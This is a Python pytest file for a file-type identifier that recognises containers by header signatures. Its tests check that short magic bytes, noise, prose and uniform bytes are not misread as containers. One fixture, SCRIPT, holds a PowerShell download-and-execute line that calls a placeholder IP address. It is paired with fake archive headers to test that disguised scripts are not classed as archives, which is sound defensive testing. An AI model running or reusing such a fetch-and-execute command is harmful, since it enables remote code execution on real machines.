"""Containers, images and sounds that Magika does not know are told by their headers, and by nothing less."""

import asyncio
import random
from pathlib import Path

import pytest

from identification import containers, kinds
from samplebank.identification import Identification, Identifier
from samplebank.identification.shapes import SHAPES
from samplebank.identification.signatures import find_signature, find_tail_type

SHORT_MARKS = (
    b"\x60\xea", b"\xc7\x71", b"\x71\xc7", b"\x1f\x9d", b"\xff\xf1", b"\xff\xf9", b"\x5d\0\0", b"MZ", b"BZh", b"DOS\0", b"P6 ", b"070701",
)  # fmt: skip
PROSE = (
    b"MZ is the mark of Mark Zbikowski, and programs begin with the mark.\n",
    b"P3 12 44 255 people came to the third meeting, and four left.\n",
    b"070701 is the number of the part that we ordered in July.\n",
    b"DDS and DSD are what dentists and listeners talk about.\n",
    b"MAC addresses are in the table below; FORM 12 AIFF is not.\n",
    b"wvpk, LZIP and hsqs are marks that texts may begin with.\n",
    b"A PDF begins with %PDF-1.7 and ends with %%EOF.\n",
    b"-- CD001 -- volume descriptors, ustar and conectix footers.\n",
    b"DOS is an operating system; GGGG.\n",
)


async def identified(identifier: Identifier, path: Path, content: bytes) -> Identification:
    await asyncio.to_thread(path.write_bytes, content)
    return await identifier.identify(path)


@pytest.mark.parametrize("kind", containers.FILES)
async def test_a_container_is_told_by_its_header(identifier: Identifier, tmp_path: Path, kind: str) -> None:
    expected, content = containers.FILES[kind]

    found = await identified(identifier, tmp_path / "sample", content)

    assert (found.super_type, found.type) == expected


@pytest.mark.parametrize("mark", SHORT_MARKS)
def test_a_short_mark_before_noise_is_no_container(mark: bytes) -> None:
    chance = random.Random(1)  # noqa: S311 the same files each time

    found = [find_signature(mark + chance.randbytes(4000)) for _ in range(300)]

    assert [signature for signature in found if signature is not None] == []


def test_noise_has_no_shape() -> None:
    chance = random.Random(2)  # noqa: S311 the same files each time
    noise = [chance.randbytes(2000) for _ in range(2000)]

    assert [kind.label for has_shape, kind in SHAPES for content in noise if has_shape(content)] == []


@pytest.mark.parametrize("text", PROSE)
@pytest.mark.parametrize("times", [1, 700])
def test_prose_is_no_container(text: bytes, times: int) -> None:
    assert find_signature(text * times) is None


SCRIPT = b"\r\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\r\n"
MARKED_SCRIPTS = {
    "tar": b"#".ljust(257) + b"ustar",
    "disk": b"#".ljust(54) + b"FAT16   ",
    "kernel": b"#".ljust(56) + b"ARMd",
    "metafile": b"#".ljust(40) + b" EMF",
    "cpio": b"070707" + b"0" * 70,
    "bzip2": b"BZh91AY&SY",
    "zip": b"PK\x03\x04",
    "picture": b"GIF89a=1;//",
    "video": b"#G".ljust(188, b"G") * 5,
}


@pytest.mark.parametrize("mark", MARKED_SCRIPTS)
@pytest.mark.parametrize("comment", ["", "# \u0442\u0435\u043a\u0441\u0442 " * 500], ids=["ASCII", "UTF-8"])
def test_a_script_with_the_mark_of_an_archive_is_no_archive(mark: str, comment: str) -> None:
    assert find_signature(MARKED_SCRIPTS[mark] + SCRIPT + comment.encode()) is None


DISK_END = b"conectix\0\0\0\x02\0\x01\0\0".ljust(512, b"\0")


@pytest.mark.parametrize(
    "head",
    [kinds.pe(), kinds.pdf(), kinds.zipped("a.exe"), SCRIPT],
    ids=["program", "document", "zip", "script"],
)
def test_the_end_of_a_disk_image_behind_another_file_tells_nothing(head: bytes) -> None:
    assert find_tail_type(head, DISK_END) is None


@pytest.mark.parametrize(
    "content", [bytes(40_000), b"\xff" * 40_000, kinds.noise(70_000), b" " * 40_000, b""]
)
def test_bytes_of_one_kind_are_no_container(content: bytes) -> None:
    assert find_signature(content) is None
